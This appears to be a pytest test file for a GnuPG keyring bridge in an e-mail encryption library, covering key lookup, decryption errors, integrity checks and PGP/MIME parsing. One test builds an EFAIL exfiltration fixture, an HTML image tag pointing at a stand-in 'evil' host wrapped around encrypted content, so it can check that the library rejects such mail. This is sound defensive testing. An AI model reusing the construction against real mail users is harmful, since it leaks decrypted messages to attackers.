"""The GnuPG keyring bridge (keys/gnupg.py) against a temporary GNUPGHOME.

Certificates are found by email address and loaded as recipients (of any validity
unless asked for full validity); decryption through gpg-agent maps gpg's failures
onto the library's own errors; PGP/MIME mail opened through gpg-agent comes back as
e2ee_mail.decrypt_message returns it, after the same checks.
"""

from __future__ import annotations

import subprocess
from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path

import pytest
from gpg import GpgHome, gpg_home
from peers import require_peer

import e2ee_mail
from e2ee_mail.keys.gnupg import GnuPGKeyring, _outcome

pytestmark = pytest.mark.interop

BODY = b"agent-held secret body\n" * 50


@dataclass
class Env:
    home: GpgHome
    ring: GnuPGKeyring
    alice: str
    bob: str


@pytest.fixture(scope="module")
def env() -> Iterator[Env]:
    require_peer("gpg")
    with gpg_home() as home:
        alice = home.generate(
            "Alice Example <Alice@Example.org>", "cv25519", "alice pw"
        )
        bob = home.generate("Bob <bob@example.org>", "rsa3072", "")
        yield Env(home, GnuPGKeyring(home.path), alice, bob)


def _forget_passphrases(home: GpgHome) -> None:
    subprocess.run(
        ["gpgconf", "--homedir", home.path, "--reload", "gpg-agent"],
        check=True,
        capture_output=True,
        env=home.env(),
    )


def test_find_certificates_by_email_is_case_insensitive(env: Env) -> None:
    certs = env.ring.find_certificates("ALICE@example.ORG")
    assert [c.fingerprint for c in certs] == [env.alice]
    assert certs[0].user_ids == ("Alice Example <Alice@Example.org>",)


def test_find_certificates_matches_whole_addresses_only(env: Env) -> None:
    assert env.ring.find_certificates("lice@example.org") == []
    assert env.ring.find_certificates("nobody@example.org") == []


def test_find_certificates_rejects_non_addresses(env: Env) -> None:
    with pytest.raises(e2ee_mail.UsageError):
        env.ring.find_certificates("alice")


def test_revoked_keys_are_not_returned() -> None:
    require_peer("gpg")
    with gpg_home() as home:
        fpr = home.generate("Carol <carol@example.org>", "cv25519", "")
        ring = GnuPGKeyring(home.path)
        assert len(ring.find_certificates("carol@example.org")) == 1
        # gpg 2.2 writes a revocation certificate at key generation, with the armor
        # line prefixed by ":" against accidental import.
        rev = Path(home.path, "openpgp-revocs.d", f"{fpr}.rev").read_bytes()
        home.import_keys(rev.replace(b":-----BEGIN", b"-----BEGIN"))
        assert ring.find_certificates("carol@example.org") == []


def test_found_certificates_are_usable_recipients(env: Env) -> None:
    certs = env.ring.find_certificates("bob@example.org")
    message = e2ee_mail.encrypt(BODY, certs)
    assert env.home.decrypt(message) == BODY


def test_agent_decrypts_our_message(env: Env) -> None:
    certs = env.ring.find_certificates("alice@example.org")
    message = e2ee_mail.encrypt(BODY, certs, armor=True)
    assert env.ring.decrypt(message, passphrase="alice pw") == BODY


def test_agent_decrypts_gpg_message_with_unprotected_key(env: Env) -> None:
    message = env.home.encrypt(BODY, [env.bob])
    assert env.ring.decrypt(message) == BODY


def test_agent_wrong_passphrase_is_passphrase_error(env: Env) -> None:
    _forget_passphrases(env.home)
    message = e2ee_mail.encrypt(BODY, env.ring.find_certificates("alice@example.org"))
    with pytest.raises(e2ee_mail.PassphraseError):
        env.ring.decrypt(message, passphrase="wrong")


def test_agent_without_pinentry_or_passphrase_is_passphrase_error(env: Env) -> None:
    _forget_passphrases(env.home)
    message = e2ee_mail.encrypt(BODY, env.ring.find_certificates("alice@example.org"))
    with pytest.raises(e2ee_mail.PassphraseError):
        env.ring.decrypt(message)


def test_message_for_someone_else_is_no_matching_key(env: Env) -> None:
    stranger = e2ee_mail.generate_key("S <s@example.org>", profile="rfc4880")
    message = e2ee_mail.encrypt(BODY, [stranger.public])
    with pytest.raises(e2ee_mail.NoMatchingKeyError):
        env.ring.decrypt(message)


def test_not_a_message_is_format_error(env: Env) -> None:
    with pytest.raises(e2ee_mail.FormatError):
        env.ring.decrypt(b"this is not OpenPGP at all")


def test_tampered_message_is_decryption_error_and_no_plaintext(env: Env) -> None:
    message = bytearray(
        e2ee_mail.encrypt(BODY, env.ring.find_certificates("bob@example.org"))
    )
    message[-30] ^= 0x20
    with pytest.raises(e2ee_mail.DecryptionError) as info:
        env.ring.decrypt(bytes(message))
    assert str(info.value) == str(e2ee_mail.DecryptionError())


def test_status_without_integrity_check_never_releases_plaintext() -> None:
    # A SED packet (no MDC) that gpg might decrypt still must not be returned.
    statuses = [("ENC_TO", "0011223344556677 18 0"), ("DECRYPTION_OKAY", "")]
    with pytest.raises(e2ee_mail.DecryptionError):
        _outcome(statuses, b"unauthenticated")
    statuses.append(("GOODMDC", ""))
    assert _outcome(statuses, b"ok") == b"ok"
    statuses.append(("BADMDC", ""))
    with pytest.raises(e2ee_mail.DecryptionError):
        _outcome(statuses, b"ok")


# -- trust: validity of the keys found ---------------------------------------------


def test_keys_of_unknown_validity_are_found_unless_validity_is_required() -> None:
    require_peer("gpg")
    with gpg_home() as home, gpg_home() as elsewhere:
        own = home.generate("Dana <dana@example.org>", "cv25519", "")
        # A key for the same address made elsewhere and imported: GnuPG gives it
        # unknown validity (nobody trusted certified it).
        stranger = elsewhere.generate("Dana? <dana@example.org>", "cv25519", "")
        home.import_keys(elsewhere.export_public(stranger))
        ring = GnuPGKeyring(home.path)
        found = {c.fingerprint for c in ring.find_certificates("dana@example.org")}
        assert found == {own, stranger}
        valid = ring.find_certificates("dana@example.org", require_valid=True)
        assert [c.fingerprint for c in valid] == [own]


# -- PGP/MIME mail through gpg-agent ---------------------------------------------


def _mail() -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = "app@example.org"
    msg["To"] = "bob@example.org"
    msg["Subject"] = "Quarterly report \u2014 draft"
    msg["X-Ticket"] = "T-42"
    msg.set_content("Numbers attached.\n")
    msg.add_attachment(b"\x00\x01 binary", maintype="application", subtype="pdf")
    return msg


def _parts(msg: EmailMessage) -> list[bytes]:
    # Line ends aside: the inner entity travels in canonical CRLF form.
    return [
        (part.get_payload(decode=True) or b"").replace(b"\r\n", b"\n")
        for part in msg.walk()
        if not part.is_multipart()
    ]


def test_agent_opens_our_pgpmime_mail_as_decrypt_message_does(env: Env) -> None:
    certs = env.ring.find_certificates("bob@example.org")
    sealed = e2ee_mail.encrypt_message(_mail(), certs, format="pgpmime")
    assert sealed["Subject"] != _mail()["Subject"]
    opened = env.ring.decrypt_message(sealed.as_bytes())
    assert opened["Subject"] == "Quarterly report \u2014 draft"
    assert opened["X-Ticket"] == "T-42"
    assert "HP-Outer" not in opened
    assert opened.get_param("hp", header="content-type") is None
    assert _parts(opened) == _parts(_mail())
    # The same message as native decryption with the same key gives.
    bob = e2ee_mail.load_key(env.home.export_secret(env.bob))
    native = e2ee_mail.decrypt_message(sealed.as_bytes(), bob)
    assert opened.as_bytes() == native.as_bytes()
    # An EmailMessage is taken as well as its octets.
    assert env.ring.decrypt_message(sealed)["Subject"] == opened["Subject"]


def _pgpmime(message: bytes, *, base64: bool = False) -> bytes:
    """A PGP/MIME mail (RFC 3156 §4) around an OpenPGP message made elsewhere."""
    if base64:
        cte = b"Content-Transfer-Encoding: base64\r\n"
        text = b64encode(message)
        body = b"\r\n".join(text[i : i + 76] for i in range(0, len(text), 76))
    else:
        cte, body = b"", message.rstrip(b"\r\n")
    return (
        b"From: carol@example.org\r\nTo: bob@example.org\r\nSubject: legacy\r\n"
        b"MIME-Version: 1.0\r\n"
        b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";'
        b' boundary="b"\r\n\r\n'
        b"--b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
        b"--b\r\nContent-Type: application/octet-stream\r\n"
        + cte
        + b"\r\n"
        + body
        + b"\r\n--b--\r\n"
    )


def test_agent_opens_gpg_made_pgpmime_mail_without_header_protection(
    env: Env,
) -> None:
    inner = b"Content-Type: text/plain; charset=us-ascii\r\n\r\nmade by gpg\r\n"
    armored = env.home.encrypt(inner, [env.bob], armor=True)
    opened = env.ring.decrypt_message(_pgpmime(armored))
    # RFC 9788 §4.10: nothing was protected, so the outer fields are copied in.
    assert opened["Subject"] == "legacy"
    assert opened["From"] == "carol@example.org"
    assert opened.get_content().replace("\r\n", "\n") == "made by gpg\n"


def _never(*args: object, **kwargs: object) -> bytes:
    raise AssertionError("gpg must not be asked to decrypt this")


def test_encrypted_part_beside_plaintext_is_refused_before_gpg(
    env: Env, monkeypatch: pytest.MonkeyPatch
) -> None:
    certs = env.ring.find_certificates("bob@example.org")
    sealed = e2ee_mail.encrypt_message(_mail(), certs, format="pgpmime")
    # EFAIL direct exfiltration: the encrypted entity nested beside plaintext.
    efail = (
        b"From: mallory@example.org\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="x"\r\n\r\n'
        b"--x\r\nContent-Type: text/html\r\n\r\n<img src='http://evil/\r\n"
        b"--x\r\n" + sealed.as_bytes() + b"\r\n--x--\r\n"
    )
    monkeypatch.setattr(env.ring, "decrypt", _never)
    with pytest.raises(e2ee_mail.MIMEError, match="EFAIL"):
        env.ring.decrypt_message(efail)


def test_pgpmime_parts_of_the_wrong_shape_are_refused_before_gpg(
    env: Env, monkeypatch: pytest.MonkeyPatch
) -> None:
    certs = env.ring.find_certificates("bob@example.org")
    raw = e2ee_mail.encrypt_message(_mail(), certs, format="pgpmime").as_bytes()
    monkeypatch.setattr(env.ring, "decrypt", _never)
    with pytest.raises(e2ee_mail.MIMEError, match="Version: 1"):
        env.ring.decrypt_message(raw.replace(b"Version: 1", b"Version: 2"))
    with pytest.raises(e2ee_mail.MIMEError, match="not an encrypted mail"):
        env.ring.decrypt_message(_mail().as_bytes())


def test_smime_mail_is_not_for_the_gnupg_bridge(env: Env) -> None:
    key = e2ee_mail.generate_key("Bob <bob@example.org>", format="x509")
    sealed = e2ee_mail.encrypt_message(_mail(), key.public, format="smime")
    with pytest.raises(e2ee_mail.UnsupportedError, match="S/MIME"):
        env.ring.decrypt_message(sealed.as_bytes())


def test_tampered_pgpmime_mail_is_decryption_error(env: Env) -> None:
    inner = b"Content-Type: text/plain\r\n\r\nsecret\r\n" * 20
    certs = env.ring.find_certificates("bob@example.org")
    blob = bytearray(e2ee_mail.encrypt(inner, certs))
    blob[-30] ^= 0x20
    with pytest.raises(e2ee_mail.DecryptionError):
        env.ring.decrypt_message(_pgpmime(bytes(blob), base64=True))
